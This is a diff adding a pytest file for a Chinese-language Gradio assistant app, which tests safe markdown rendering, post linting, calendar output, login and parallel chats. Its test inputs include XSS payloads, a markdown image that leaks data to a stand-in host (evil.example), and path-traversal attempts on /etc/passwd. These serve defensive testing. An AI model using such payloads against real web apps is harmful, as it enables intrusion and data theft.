@@ -1,0 +1,174 @@
+"""The web app: built by a function, safe rendering, file access, login, parallel chats."""
+import concurrent.futures as cf
+import os
+import socket
+import subprocess
+import sys
+import time
+import urllib.error
+import urllib.request
+
+import pytest
+
+from assistant.ui import Handlers, build_app, launch, parse_auth, safe_markdown
+from conftest import FIXTURES, ROOT
+from openai_stub import StubOpenAI
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def http_get(url: str) -> tuple[int, str]:
+    try:
+        with urllib.request.urlopen(url, timeout=10) as r:
+            return r.status, r.read().decode("utf-8", "replace")
+    except urllib.error.HTTPError as e:
+        return e.code, e.read().decode("utf-8", "replace")
+
+
+def test_import_builds_nothing():
+    code = ("import sys; sys.path.insert(0, sys.argv[1]); import app, assistant.ui;"
+            "assert 'gradio' not in sys.modules and 'chromadb' not in sys.modules, sorted(m for m in sys.modules if 'grad' in m)")
+    r = subprocess.run([sys.executable, "-c", code, str(ROOT)], capture_output=True, text=True, cwd=ROOT)
+    assert r.returncode == 0, r.stderr
+
+
+@pytest.mark.parametrize("raw,forbidden,kept", [
+    ("<script>alert(1)</script>你好", "<script>", "你好"),
+    ("<img src=x onerror=alert(1)>", "<img", "img"),
+    ("看这里 ![x](https://evil.example/leak?d=secret)", "](https://evil", "图片已移除"),
+    ("![](http://evil.example/p.png)", "evil.example/p.png)", "图片已移除"),
+    ("点 [这里](https://evil.example/?q=1)", "](https://", "这里"),
+    ("[ref]: https://evil.example/x\n文本", "[ref]:", "文本"),
+    ("访问 https://evil.example/path 看看", " https://evil", "`https://evil.example/path`"),
+])
+def test_safe_markdown(raw, forbidden, kept):
+    out = safe_markdown(raw)
+    assert forbidden not in out and kept in out
+
+
+def test_lint_handler_spans(shared_e5_settings):
+    h = Handlers(shared_e5_settings)
+    text = "今晚群里发红包,扫码领优惠券"
+    spans, verdict = h.lint(text, "目标群(默认)")
+    assert "".join(s for s, _ in spans) == text
+    labelled = {s: label for s, label in spans if label}
+    assert labelled["红包"].startswith("MN001") and "❌" in verdict
+    assert h.lint("  ", "目标群(默认)")[1] == "请先粘贴一条帖子。"
+
+
+def test_lint_batch_txt_csv_and_bad_file(shared_e5_settings, tmp_path):
+    h = Handlers(shared_e5_settings)
+    txt = tmp_path / "posts.txt"
+    txt.write_text("群里发红包\n\n今天打卡第3天\n", encoding="utf-8")
+    rows, note = h.lint_batch(str(txt), "目标群(默认)")
+    assert [r[2] for r in rows] == ["是", "否"] and "2 条" in note
+    c = tmp_path / "posts.csv"
+    c.write_text("id,帖子\n1,本群专属折扣码\n2,分享一份读书笔记\n", encoding="utf-8")
+    rows, _ = h.lint_batch(str(c), "目标群(默认)")
+    assert [r[2] for r in rows] == ["是", "否"]
+    bad = tmp_path / "bad.txt"
+    bad.write_bytes(b"\xff\xfe\xfa\xfb\x80\x81" * 10)
+    rows, note = h.lint_batch(str(bad), "目标群(默认)")
+    assert rows == [] and "bad.txt" in note and "编码" in note
+
+
+def test_calendar_handler(shared_e5_settings):
+    h = Handlers(shared_e5_settings)
+    rows, md, csv_path, ics, info = h.calendar("社区健身房", "", "2026-11-23", 7)
+    assert len(rows) == 7 and rows[0][:3] == ["2026-11-23", "周一", "分享"]
+    assert open(ics, "rb").read().startswith(b"BEGIN:VCALENDAR") and "60天" in info
+    *_, info = h.calendar("社区健身房", "", "23/11/2026", 7)
+    assert "YYYY-MM-DD" in info
+    *_, info = h.calendar("  ", "", "", 7)
+    assert "描述你的生意" in info
+
+
+def test_chat_handler_streams_and_keeps_history(shared_e5_settings):
+    h = Handlers(shared_e5_settings)
+    states = list(h.chat("超级用户群怎么筛选成员?", []))
+    history, box = states[-1]
+    assert len(states) > 2 and box == ""
+    assert history[0] == {"role": "user", "content": "超级用户群怎么筛选成员?"}
+    assert "**来源**" in history[-1]["content"]
+    history2, _ = list(h.chat("那人员配比呢?", history))[-1]
+    assert len(history2) == 4 and "30%" in history2[-1]["content"]
+
+
+def test_parse_auth():
+    assert parse_auth("admin:s3cret") == ("admin", "s3cret")
+    assert parse_auth(None) is None
+    with pytest.raises(ValueError):
+        parse_auth("nocolon")
+
+
+@pytest.fixture
+def served(e5_settings):
+    port = free_port()
+    demo = launch(e5_settings, host="127.0.0.1", port=port, prevent_thread_lock=True)
+    yield f"http://127.0.0.1:{port}"
+    demo.close()
+
+
+def test_no_file_access_beyond_what_is_served(served, tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-VALUE", encoding="utf-8")
+    for path in ["../../../../etc/passwd", "/etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", str(secret),
+                 str(ROOT / "pyproject.toml")]:
+        code, body = http_get(f"{served}/gradio_api/file={path}")
+        assert code in (400, 403, 404), (path, code)
+        assert "root:" not in body and "TOP-SECRET-VALUE" not in body and "[project]" not in body
+
+
+def test_login_required_when_configured(e5_settings):
+    port = free_port()
+    demo = launch(e5_settings.with_(auth="admin:s3cret"), port=port, prevent_thread_lock=True)
+    try:
+        code, body = http_get(f"http://127.0.0.1:{port}/config")
+        assert code in (401, 403) or '"auth_required":true' in body.replace(" ", "")
+        data = "username=admin&password=wrong".encode()
+        req = urllib.request.Request(f"http://127.0.0.1:{port}/login", data=data, method="POST")
+        with pytest.raises(urllib.error.HTTPError):
+            urllib.request.urlopen(req, timeout=10)
+        req = urllib.request.Request(f"http://127.0.0.1:{port}/login", data="username=admin&password=s3cret".encode(),
+                                     method="POST")
+        assert urllib.request.urlopen(req, timeout=10).status == 200
+    finally:
+        demo.close()
+
+
+def test_five_parallel_streamed_chats(e5_settings):
+    """Five chats at once finish in about the time of one, each seeing only its own answer."""
+    from gradio_client import Client
+
+    with StubOpenAI() as stub:
+        stub.script = [{"echo": True, "delay": 0.15}]
+        settings = e5_settings.with_(openai_api_key="k", openai_base_url=stub.base_url, model="stub", model_timeout=20)
+        port = free_port()
+        demo = launch(settings, port=port, prevent_thread_lock=True)
+        try:
+            client = Client(f"http://127.0.0.1:{port}/", verbose=False)
+            api = next(name for name in client.view_api(return_format="dict")["named_endpoints"] if "chat" in name)
+
+            def one(i):
+                t = time.perf_counter()
+                history, _ = client.predict(f"第{i}号问题:怎样让群更活跃", [], api_name=api)
+                content = history[-1]["content"]
+                if isinstance(content, list):  # Gradio 6 gives message content as parts
+                    content = "".join(p.get("text", "") if isinstance(p, dict) else str(p) for p in content)
+                return i, time.perf_counter() - t, content
+
+            _, single, _ = one(0)
+            t = time.perf_counter()
+            with cf.ThreadPoolExecutor(5) as ex:
+                results = list(ex.map(one, range(1, 6)))
+            total = time.perf_counter() - t
+            for i, _, answer in results:
+                assert f"第{i}号问题" in answer.replace("\n", "")
+                assert all(f"第{j}号问题" not in answer for j in range(1, 6) if j != i)
+            assert total < single * 2.5, (single, total)
+        finally:
+            demo.close()
